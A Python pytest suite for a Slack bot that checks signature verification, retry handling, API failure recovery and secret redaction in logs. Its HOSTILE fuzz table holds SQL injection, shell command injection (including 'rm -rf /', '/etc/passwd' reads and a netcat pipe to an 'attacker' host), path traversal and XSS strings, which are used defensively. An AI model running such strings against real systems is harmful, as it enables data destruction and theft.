"""What a production Slack bot must survive: forged and stale requests, retries, hostile text,
a rate-limited or broken Web API, and leaks of secrets into payloads or logs."""

from __future__ import annotations

import json
import logging
import time

import pytest

from bot.app import wait_idle
from bot.logs import RedactingFilter
from checks.redact import Redactor
from tests.support.slack_app import CHECK_ENV, SECRETS, SIGNING_SECRET, SlackApp
from tests.support.slack_payloads import scan_for_secrets, validate_outbound
from tests.support.slack_requests import sign, slash_command


def _state(slack: SlackApp) -> tuple[int, dict[str, object], int]:
    store = slack.store
    votes = {d.id: store.votes(d.id) for d in slack.services.checklist.decisions}
    return store.signoff_count(), votes, len(store.active_runs())


def test_bad_signature_is_401_and_nothing_runs(slack: SlackApp) -> None:
    before = _state(slack)
    body, _ = slash_command(text="signoff phase-3-status/all-tests-passing")
    forged = slack.dispatch(body, headers=sign("not-the-secret", body))
    assert forged.status == 401
    stale = slack.dispatch(body, headers=sign(SIGNING_SECRET, body, ts=int(time.time()) - 301))
    assert stale.status == 401
    tampered_headers = sign(SIGNING_SECRET, body)
    tampered = slack.dispatch(body.replace("all-tests", "xss-tests"), headers=tampered_headers)
    assert tampered.status == 401
    assert _state(slack) == before
    assert [c.method for c in slack.fake.calls if c.method != "auth.test"] == []


def test_a_retried_command_is_applied_once(slack: SlackApp) -> None:
    body, _ = slash_command(
        text="signoff phase-3-status/all-tests-passing", response_url=slack.fake.response_url()
    )
    headers = sign(SIGNING_SECRET, body)
    first = slack.dispatch(body, headers=headers)
    retry_headers = {**headers, "X-Slack-Retry-Num": "1", "X-Slack-Retry-Reason": "http_timeout"}
    second = slack.dispatch(body, headers=retry_headers)
    assert first.status == second.status == 200
    assert slack.store.signoff_count() == 1
    assert second.body == ""  # acknowledged, not answered twice


def test_a_double_clicked_vote_button_counts_once(slack: SlackApp) -> None:
    from tests.support.slack_requests import block_actions

    body, _ = block_actions(
        "decide_vote:1", "email-service|aws-ses", response_url=slack.fake.response_url()
    )
    for _ in range(3):
        assert slack.dispatch(body).status == 200
    slack.settle()
    assert slack.store.votes("email-service") == {"U123": "aws-ses"}
    assert len(slack.store.vote_history("email-service")) == 1


HOSTILE = [
    "",
    " ",
    "\t\n",
    "status " * 400,
    "x" * 10_000,
    "STATUS",
    "Status",
    "sTaTuS security",
    "help me",
    "halp",
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<@U123>",
    "<#C123>",
    "<https://evil.example|click>",
    "*bold* _it_ ~strike~",
    "`code`",
    "```block```",
    "'; DROP TABLE signoff_events; --",
    '" OR 1=1 --',
    "1; DELETE FROM votes",
    "$(rm -rf /)",
    "`reboot`",
    "; cat /etc/passwd",
    "| nc attacker 1",
    "&& shutdown -h now",
    "../../etc/passwd",
    "%00",
    "\x00",
    "\x1b[31mred",
    "🚀🚀🚀",
    "ñandú",
    "中文命令",
    "مرحبا",
    "item",
    "item ",
    "item nonexistent-id",
    "item <!channel>",
    "item '; DROP TABLE items;--",
    "item " + "a" * 5000,
    "item phase-3",
    "item backup",
    "item \x00",
    "signoff",
    "signoff nonexistent",
    "signoff <!channel>",
    "signoff '; DROP TABLE x;--",
    "signoff backup",
    "signoff " + "b" * 3000,
    "signoff $(whoami)",
    "unsign",
    "unsign nonexistent",
    "unsign <@U999>",
    "assign",
    "assign x",
    "assign x y",
    "assign nonexistent <@U123>",
    "assign <!channel> <@U123>",
    "check nonexistent",
    "check <!channel>",
    "check '; --",
    "check $(id)",
    "status nonexistent",
    "status <!channel>",
    "status '; DROP TABLE x;--",
    "status " + "s" * 1500,
    "export pdf",
    "export <!channel>",
    "export ../../x",
    "digest",
    "digest bogus",
    "digest subscribe 25:00",
    "digest subscribe <!channel>",
    "digest unsubscribe",
    "gate now please <!here>",
    "help <!channel>",
    "HELP",
    "Help",
    "?",
    "--help",
    "-h",
    "item\u200bphase",
    "signoff\u202ephase",
    "ïtem",
    "ITEM PHASE-3-STATUS/ALL-TESTS-PASSING-X",
    "null",
    "None",
    "undefined",
    "true",
    "0",
    "-1",
    "9" * 50,
    "{}",
    "[]",
    '{"a":1}',
    "<script>alert(1)</script>",
    "&lt;!channel&gt;",
    "&amp;",
    "a&b<c>d",
    "signoff x <!channel>",
    "unsign x y z",
    "item a b c",
    "check a b c d e f g",
    "\\",
    "\\\\",
    "%s%s%s",
    "{0}",
    "${HOME}",
    "$DB_PASSWORD",
    "%(message)s",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_bad_input_gets_a_helpful_private_answer_and_changes_nothing(
    slack: SlackApp, text: str
) -> None:
    before = _state(slack)
    response = slack.command(text)
    assert response.status == 200
    slack.settle()
    reply = slack.responses[-1] if slack.responses else {}
    answered = reply.get("text") or ""
    follow_ups = [c for c in slack.fake.calls if c.method == "response_url"]
    assert answered or follow_ups, f"no answer to {text!r}"
    assert reply.get("response_type") in (None, "ephemeral")
    everything = json.dumps(slack.responses) + json.dumps([c.data for c in slack.fake.calls])
    for raw in ("<!channel>", "<!here>", "<!everyone>", "<script>", "<https://evil"):
        assert raw not in everything
    assert _state(slack) == before
    assert validate_outbound(slack.fake.calls) == []


def test_the_hostile_table_is_big_enough() -> None:
    assert len(HOSTILE) >= 100


def test_rate_limited_web_api_is_retried_after_retry_after(slack: SlackApp) -> None:
    slack.fake.fail_next("chat.postMessage", status=429, retry_after=1)
    slack.reply("status")
    slack.settle()
    posts = slack.fake.calls_to("chat.postMessage")
    assert [c.status for c in posts] == [429, 200]
    assert posts[1].at - posts[0].at >= 0.9
    assert slack.fake.calls_to("chat.update")


def test_server_errors_are_retried_then_the_user_is_told(slack: SlackApp) -> None:
    slack.fake.fail_next("chat.postMessage", status=500, times=10)
    slack.reply("status")
    slack.settle()
    assert len(slack.fake.calls_to("chat.postMessage")) >= 2  # retried
    told = slack.fake.calls_to("response_url")
    assert told and told[-1].data["text"].startswith("NOT READY")


def test_a_hanging_web_api_does_not_stop_other_requests(slack: SlackApp) -> None:
    slack.fake.hang("chat.postMessage", seconds=8)
    slack.reply("status")
    time.sleep(0.2)
    for _ in range(20):
        assert "Signed off" in slack.reply("signoff phase-3-status/all-tests-passing")["text"]
        slack.reply("unsign phase-3-status/all-tests-passing")
    # All forty answered while the status post still hangs in the work pool.
    assert not wait_idle(slack.app, timeout=0)
    slack.settle(40)


def test_errors_reach_the_user_with_a_reference_and_the_log_with_the_detail(
    slack: SlackApp, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken() -> None:
        raise RuntimeError(f"store exploded with password={CHECK_ENV['DB_PASSWORD']}")

    monkeypatch.setattr(slack.services, "readiness", broken)
    caplog.set_level(logging.INFO)
    for handler in logging.getLogger().handlers:
        handler.addFilter(RedactingFilter(Redactor.from_env(CHECK_ENV)))
    caplog.handler.addFilter(RedactingFilter(Redactor.from_env(CHECK_ENV)))
    response = slack.command("gate")
    assert response.status == 200
    told = slack.fake.wait_for("response_url")[0].data["text"]
    assert "Something went wrong" in told and "ref `" in told
    ref = told.split("ref `")[1].split("`")[0]
    assert any(ref in r.getMessage() for r in caplog.records)
    logged = "\n".join(r.getMessage() + (r.exc_text or "") for r in caplog.records)
    assert "store exploded" in logged
    assert CHECK_ENV["DB_PASSWORD"] not in logged
    assert CHECK_ENV["DB_PASSWORD"] not in json.dumps([c.data for c in slack.fake.calls])


def test_no_secret_in_any_payload_or_log_line_of_a_busy_session(
    slack: SlackApp, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    for text in (
        "status",
        "check all",
        "item database-aws-rds/ssl-connections-enabled",
        "gate",
        "signoff phase-3-status/all-tests-passing $DB_PASSWORD",
        "export json",
        "digest now",
    ):
        slack.command(text)
        slack.settle()
    slack.home()
    slack.settle()
    assert scan_for_secrets(slack.fake.calls, SECRETS) == []
    assert not [s for s in SECRETS if s in json.dumps(slack.responses)]
    logged = "\n".join(f"{r.name} {r.getMessage()}" for r in caplog.records)
    assert not [s for s in SECRETS if s in logged]
    # Bolt's and the SDK's loggers never print request bodies
    assert "response_url=" not in logged and "trigger_id=" not in logged
    assert validate_outbound(slack.fake.calls) == []
